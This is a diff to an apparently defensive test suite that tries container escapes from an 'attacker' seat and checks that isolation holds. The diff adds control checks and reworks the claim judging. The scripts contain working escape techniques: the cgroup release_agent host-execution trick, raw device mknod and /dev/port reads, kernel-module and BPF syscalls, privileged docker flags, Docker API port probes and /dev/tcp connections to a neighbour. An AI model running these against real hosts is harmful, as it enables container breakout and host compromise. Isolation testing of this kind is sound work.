@@ -3,6 +3,7 @@ import { access } from "node:fs/promises";
 import type { Attack } from "../attack.ts";
 import { say, sh, type AnySeat } from "../ground.ts";
 import { judgeClaims, judgeLines } from "../judge.ts";
+import { layout } from "../../../setup/seat-host/layout.ts";
 import { addressOf } from "./network.ts";
 import { CALLS, perl, TRY } from "./scripts.ts";
 
@@ -40,6 +41,10 @@ export const container: readonly Attack[] = [
         seat,
         ALL,
         `${TRY}
+        works "a mount, for which one must be privileged" sh -c 'mount -t tmpfs tmpfs /mnt && umount /mnt'
+        works "mknod of a pipe" mknod /tmp/pipe p
+        works "the seat's own files below /host" test -e /host/etc/passwd
+        works "process 1 of the seat" test -e /hostproc/1/root/etc/passwd
         awk '{ print ($2 == 0 ? "through: " : "held: ") "uid map " $1 " " $2 " " $3 }' /proc/self/uid_map
         tail -n +3 /proc/partitions | while read -r major minor _ name; do try "mknod of $name" mknod /tmp/$name b $major $minor; done
         try "chroot into the machine" test -e /host/var/lib/incus
@@ -63,6 +68,7 @@ export const container: readonly Attack[] = [
         await say(
           await ground.attacker(),
           `${TRY}
+          works "--device of one that is there" docker run --rm --device /dev/null:/dev/own ${IMAGE} test -r /dev/own
           for device in /dev/mem /dev/kvm /dev/loop-control $(awk 'NR > 2 { print "/dev/" $4 }' /proc/partitions | head -n 3); do
             try "--device $device" docker run --rm --device "$device" ${IMAGE} test -r "$device"
           done
@@ -83,13 +89,14 @@ export const container: readonly Attack[] = [
         seat,
         "--cap-add ALL --security-opt seccomp=unconfined --security-opt apparmor=unconfined --security-opt systempaths=unconfined",
         `${TRY}
-        grep CapEff /proc/self/status
+        works "a capability: a mount" sh -c 'mount -t tmpfs tmpfs /mnt && umount /mnt'
+        works "mknod of a pipe" mknod /own p
         ${perl(`${CALLS} my $image = "\\x7fELF" . "\\0" x 4096; my $none = "\\0";
           tell_call("init_module", syscall($call{init_module}, $image, length $image, $none));
           my $code = pack("Q2", 0xb7, 0x95); my $license = "GPL\\0";
           my $load = pack("LLQQLLQLL", 2, 2, unpack("Q", pack("p", $code)), unpack("Q", pack("p", $license)), 0, 0, 0, 0, 0);
           tell_call("bpf", syscall($call{bpf}, 5, $load . "\\0" x 80, 128));`)}
-        try "the clock" date -s "@$(date +%s)"
+        denied "the clock" date -s "@$(date +%s)"
         try "spared by the killer" sh -c "echo -1000 > /proc/self/oom_score_adj"
         try "/dev/port" sh -c "mknod /p c 1 4 && head -c 1 /p"`,
       );
@@ -115,10 +122,16 @@ export const container: readonly Attack[] = [
         for port in 2375 2376; do for host in 127.0.0.1 10.78.0.1 10.78.0.2; do timeout 3 socat -u /dev/null TCP:$host:$port,connect-timeout=2 2>/dev/null && echo port open; done; done; true`,
         100_000,
       );
-      return judgeClaims({
-        "by its sockets it speaks to its own engine": result.stdout.includes(id),
-        "to no other one": !result.stdout.includes(other) && !result.stdout.includes("port open"),
-      });
+      return judgeClaims(
+        {
+          "by its sockets it speaks to no engine but its own": !result.stdout.includes(other),
+          "no engine's port is open": !result.stdout.includes("port open"),
+        },
+        {
+          "by its sockets it speaks to its own engine": result.stdout.includes(id),
+          "the neighbour's engine has another name": id !== other && other !== "",
+        },
+      );
     },
   },
   {
@@ -133,15 +146,19 @@ export const container: readonly Attack[] = [
         await ground.attacker(),
         "--privileged --cgroupns=host --pid=host",
         `${TRY}
+        grep -qw cgroup /proc/filesystems || { echo none; exit; }
         printf '#!/bin/sh\\ntouch /tmp/${name}\\n' > /agent; chmod +x /agent
+        works "the agent itself" sh -c '/agent && test -e /tmp/${name}'
+        works "a mount of a hierarchy without one" sh -c 'mkdir -p /cg && mount -t cgroup2 cgroup2 /cg && umount /cg'
         host=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -n 1)
         for kind in memory pids rdma misc freezer; do
           mkdir -p /cg; mount -t cgroup -o $kind cgroup /cg 2>/dev/null || { echo "held: no mount of $kind"; continue; }
           mkdir -p /cg/x; try "notify_on_release of $kind" sh -c "echo 1 > /cg/x/notify_on_release; echo $host/agent > /cg/release_agent"
           sh -c 'echo $$ > /cg/x/cgroup.procs' 2>/dev/null; sleep 0.5; rmdir /cg/x 2>/dev/null; umount /cg
-        done
-        echo "held: on cgroup v2 there is no release_agent"`,
+        done`,
       );
+      if (result.stdout.trim() === "none")
+        return { absent: "this kernel has control groups of version 2 alone, which have no release_agent" };
       const ran = await access(`/tmp/${name}`).then(
         () => true,
         () => false,
@@ -160,6 +177,7 @@ export const container: readonly Attack[] = [
         await say(
           await ground.attacker(),
           `${TRY}
+          works "a setting of the container's own" docker run --rm --sysctl net.ipv4.ip_forward=1 ${IMAGE} true
           try "kernel.core_pattern" docker run --rm --sysctl kernel.core_pattern=core ${IMAGE} true
           try "vm.overcommit_memory" docker run --rm --privileged --sysctl vm.overcommit_memory=1 ${IMAGE} true
           try "kernel.panic" docker run --rm --privileged --sysctl kernel.panic=0 ${IMAGE} true
@@ -186,16 +204,23 @@ export const container: readonly Attack[] = [
       try {
         const send = (word: string) => `(exec 3<>/dev/tcp/${there}/7081 && echo ${word} >&3) 2>/dev/null`;
         await sh(neighbour, `sleep 0.5; timeout 4 bash -c '${send("own")}'`);
-        for (const flags of ["--net=host --privileged", ""])
-          await sh(
+        const may = `exec 4<>/dev/tcp/${layout.servicesAddress}/${layout.proxyPort} && echo may reach`;
+        const ran: string[] = [];
+        for (const flags of ["--net=host --privileged", ""]) {
+          const { stdout } = await sh(
             attacker,
-            `timeout 20 docker run --rm ${flags} ${IMAGE} timeout 4 bash -c '${send("foreign")}'`,
+            `timeout 20 docker run --rm ${flags} ${IMAGE} timeout 8 bash -c '${may}; ${send("foreign")}'`,
           );
+          ran.push(stdout);
+        }
         const got = await say(neighbour, "sleep 0.3; cat /tmp/c; rm -f /tmp/c");
-        return judgeClaims({
-          "the neighbour reaches its own listener": got.includes("own"),
-          "no container of the attacker's does": !got.includes("foreign"),
-        });
+        return judgeClaims(
+          { "no container of the attacker's reaches the neighbour's listener": !got.includes("foreign") },
+          {
+            "the neighbour reaches it": got.includes("own"),
+            "both containers ran and reached what they may": ran.every((said) => said.includes("may reach")),
+          },
+        );
       } finally {
         listening.destroy();
       }
